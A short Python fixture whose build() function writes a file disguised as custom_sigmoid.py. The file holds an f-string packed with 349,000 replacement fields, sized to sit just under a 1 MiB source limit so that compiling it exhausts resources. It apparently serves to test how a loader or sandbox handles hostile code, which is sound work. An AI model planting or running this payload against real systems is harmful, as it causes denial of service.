from pathlib import Path

FIELDS = 349_000  # three bytes each: just under the 1 MiB source limit


def build(folder: Path) -> Path:
    (folder / "custom_sigmoid.py").write_text('bomb = f"' + "{1}" * FIELDS + '"\n')
    return folder
